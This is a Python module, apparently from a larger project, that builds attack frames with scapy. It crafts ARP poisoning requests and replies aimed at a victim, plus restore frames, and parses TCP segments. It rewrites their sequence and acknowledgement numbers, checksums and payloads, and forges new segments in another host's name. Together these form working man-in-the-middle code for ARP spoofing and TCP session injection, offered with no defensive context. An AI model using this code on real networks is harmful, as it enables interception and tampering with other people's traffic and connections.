"""Frames, made and changed with scapy; no I/O.

Classifying a frame reads its header fields directly: dissecting every relayed frame would cost ten times the relay.
"""

import struct
from dataclasses import dataclass
from typing import Self

from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Raw
from scapy.utils import checksum

from coldaisle_contracts.journal import ETHERNET

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
_SACK = 5
_IPV4, _ARP_TYPE, _TCP = b"\x08\x00", b"\x08\x06", 6


def arp_claim(attacker: str, victim: tuple[str, str], claimed_ip: str) -> bytes:
    """Ask the victim a question that says ``claimed_ip`` is at the attacker (who-has, op 1).

    Linux takes over the sender of a question it has to answer at once, even into an empty cache.

    Args:
        attacker: attacker's MAC address.
        victim: the victim's IPv4 and MAC address.
        claimed_ip: whose place the attacker takes.
    """
    ip, mac = victim
    return bytes(
        Ether(src=attacker, dst=mac) / ARP(op=1, hwsrc=attacker, psrc=claimed_ip, hwdst=mac, pdst=ip)
    )


def arp_answer(attacker: str, victim: tuple[str, str], claimed_ip: str) -> bytes:
    """Answer the victim's question for ``claimed_ip`` with the attacker's MAC address (is-at, op 2)."""
    ip, mac = victim
    return bytes(
        Ether(src=attacker, dst=mac) / ARP(op=2, hwsrc=attacker, psrc=claimed_ip, hwdst=mac, pdst=ip)
    )


def arp_restore(attacker: str, victim: tuple[str, str], owner: tuple[str, str]) -> bytes:
    """Tell the victim where the owner of an address really is: a gratuitous ARP, which asks for no answer."""
    owner_ip, owner_mac = owner
    frame = Ether(src=attacker, dst=victim[1])
    return bytes(frame / ARP(op=1, hwsrc=owner_mac, psrc=owner_ip, hwdst=victim[1], pdst=owner_ip))


@dataclass(frozen=True)
class Arp:
    """An ARP question or answer: operation, who asks and for which address."""

    operation: int
    sender_mac: str
    sender_ip: str
    target_ip: str


def read_arp(frame: bytes) -> Arp | None:
    """Return the ARP packet in a frame, ``None`` when there is none."""
    if frame[12:14] != _ARP_TYPE or len(frame) < ETHERNET + 28:
        return None
    packet = frame[ETHERNET:]
    return Arp(
        int.from_bytes(packet[6:8], "big"), packet[8:14].hex(":"), _ip(packet[14:18]), _ip(packet[24:28])
    )


def _ip(packed: bytes) -> str:
    return ".".join(map(str, packed))


@dataclass(slots=True)  # not frozen: one is made for every relayed frame, and freezing triples its cost
class Segment:
    """The TCP segment in a frame.

    Attributes:
        frame: the Ethernet frame it was read from.
        source, target: IPv4 addresses.
        sport, dport: ports.
        seq, ack: sequence and acknowledgement number.
        flags: TCP flags.
        payload: what it carries.
        tsval, tsecr: timestamp option, ms of the senders' clocks; 0 when absent.
    """

    frame: bytes
    source: str
    target: str
    sport: int
    dport: int
    seq: int
    ack: int
    flags: int
    payload: bytes
    tsval: int
    tsecr: int

    @property
    def span(self) -> tuple[int, int]:
        """Where the TCP segment starts and ends in the frame."""
        start = ETHERNET + (self.frame[ETHERNET] & 15) * 4
        return start, ETHERNET + int.from_bytes(self.frame[ETHERNET + 2 : ETHERNET + 4], "big")

    @classmethod
    def read(cls, frame: bytes) -> Self | None:
        """Return the segment in an Ethernet frame, ``None`` when it is not whole TCP over IPv4."""
        if frame[12:14] != _IPV4 or len(frame) < ETHERNET + 40 or frame[ETHERNET + 9] != _TCP:
            return None
        start = ETHERNET + (frame[ETHERNET] & 15) * 4
        end = ETHERNET + int.from_bytes(frame[ETHERNET + 2 : ETHERNET + 4], "big")
        data = start + (frame[start + 12] >> 4) * 4
        tsval, tsecr = _timestamps(frame[start + 20 : data])
        return cls(
            frame,
            _ip(frame[ETHERNET + 12 : ETHERNET + 16]),
            _ip(frame[ETHERNET + 16 : ETHERNET + 20]),
            int.from_bytes(frame[start : start + 2], "big"),
            int.from_bytes(frame[start + 2 : start + 4], "big"),
            int.from_bytes(frame[start + 4 : start + 8], "big"),
            int.from_bytes(frame[start + 8 : start + 12], "big"),
            frame[start + 13],
            frame[data:end],
            tsval,
            tsecr,
        )


def _timestamps(options: bytes) -> tuple[int, int]:
    at = 0
    while at < len(options) and options[at] != 0:
        if options[at] == 1:
            at += 1
        elif options[at] == 8 and at + 10 <= len(options):  # noqa: PLR2004 - RFC 7323
            return int.from_bytes(options[at + 2 : at + 6], "big"), int.from_bytes(
                options[at + 6 : at + 10], "big"
            )
        else:
            at += max(2, options[at + 1] if at + 1 < len(options) else 2)
    return 0, 0


def _pseudo(frame: bytes | bytearray, length: int) -> bytes:
    return bytes(frame[ETHERNET + 12 : ETHERNET + 20]) + bytes((0, _TCP)) + length.to_bytes(2, "big")


def is_sound(segment: Segment) -> bool:
    """Tell whether the segment's checksum is right; a sender whose card does checksums leaves it open."""
    start, end = segment.span
    return bool(checksum(_pseudo(segment.frame, end - start) + segment.frame[start:end]) == 0)


def translate(segment: Segment, macs: tuple[str, str], seq: int, ack: int) -> bytes:
    """Return the segment's frame with other sequence and acknowledgement numbers and a right checksum.

    What every frame of an edited connection needs, so it patches bytes: scapy would take ten times as long.
    Selective acknowledgements become padding: they name sequence numbers the other side never saw.

    Args:
        segment: what arrived.
        macs: source and target MAC address of the new frame.
        seq: new sequence number.
        ack: new acknowledgement number.
    """
    start, end = segment.span
    out = bytearray(readdress(segment.frame, *macs))
    struct.pack_into("!II", out, start + 4, seq, ack)
    at, stop = start + 20, start + (out[start + 12] >> 4) * 4
    while at < stop and out[at] != 0:
        size = 1 if out[at] == 1 else max(2, out[at + 1])
        if out[at] == _SACK:
            out[at : at + size] = b"\x01" * size
        at += size
    out[start + 16 : start + 18] = b"\0\0"
    out[start + 16 : start + 18] = checksum(_pseudo(out, end - start) + bytes(out[start:end])).to_bytes(
        2, "big"
    )
    return bytes(out)


def read_addresses(frame: bytes) -> tuple[str, str] | None:
    """Return source and target IPv4 address of a frame, ``None`` when it is not IPv4."""
    if frame[12:14] != _IPV4 or len(frame) < ETHERNET + 20:
        return None
    return _ip(frame[ETHERNET + 12 : ETHERNET + 16]), _ip(frame[ETHERNET + 16 : ETHERNET + 20])


def relayed(frame: bytes, macs: tuple[str, str]) -> bytes:
    """Return a frame that is no MQTT with other MAC addresses and, for UDP, a right checksum.

    A sender whose card does checksums leaves it open; a packet socket does not fill it in.
    """
    ether = Ether(frame)
    ether.src, ether.dst = macs
    if UDP in ether:
        del ether[UDP].chksum
    return bytes(ether)


def readdress(frame: bytes, source_mac: str, target_mac: str) -> bytes:
    """Return a frame with other MAC addresses and nothing else changed."""
    return bytes.fromhex((target_mac + source_mac).replace(":", "")) + frame[12:]


def rewrite(segment: Segment, macs: tuple[str, str], seq: int, ack: int, payload: bytes) -> bytes:
    """Return the segment's frame with another payload, :func:`translate`'s changes and right lengths and checksums.

    Args:
        segment: what arrived.
        macs: source and target MAC address of the new frame.
        seq: new sequence number.
        ack: new acknowledgement number.
        payload: new payload.
    """
    ether = Ether(segment.frame)
    ip, tcp = ether[IP], ether[TCP]
    ether.src, ether.dst = macs
    tcp.seq, tcp.ack = seq, ack
    tcp.options = [option for option in tcp.options if option[0] != "SAck"]
    tcp.remove_payload()
    del ip.len, ip.chksum, tcp.chksum, tcp.dataofs
    return bytes(ether / Raw(payload)) if payload else bytes(ether)


def forge(
    segment: Segment, macs: tuple[str, str], numbers: tuple[int, int], times: tuple[int, int], payload: bytes
) -> bytes:
    """Return a new segment in the name of the one who sent ``segment``, in its shape.

    Args:
        segment: a segment seen in the same direction.
        macs: source and target MAC address.
        numbers: sequence and acknowledgement number.
        times: TSval and TSecr.
        payload: what it carries; without any it is a pure ACK.
    """
    ether = Ether(segment.frame)
    ip, tcp = ether[IP], ether[TCP]
    ether.src, ether.dst = macs
    ip.id = (ip.id + 1) & 0xFFFF
    tcp.seq, tcp.ack = numbers
    tcp.flags = ACK | (PSH if payload else 0)
    if segment.tsval:
        tcp.options = [("NOP", None), ("NOP", None), ("Timestamp", times)]
    tcp.remove_payload()
    del ip.len, ip.chksum, tcp.chksum, tcp.dataofs
    return bytes(ether / Raw(payload)) if payload else bytes(ether)
